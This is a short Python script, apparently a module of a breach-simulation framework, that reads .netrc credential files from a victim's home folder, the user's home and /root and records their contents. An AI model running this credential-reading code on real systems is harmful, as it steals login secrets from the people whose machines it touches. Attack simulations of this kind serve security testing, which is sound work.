"""Read credentials in the home folder."""

import os

from breach import attempt, found, victim

for path in (victim["home"] + "/.netrc", os.path.expanduser("~/.netrc"), "/root/.netrc"):
    with attempt():
        found(open(path).read())
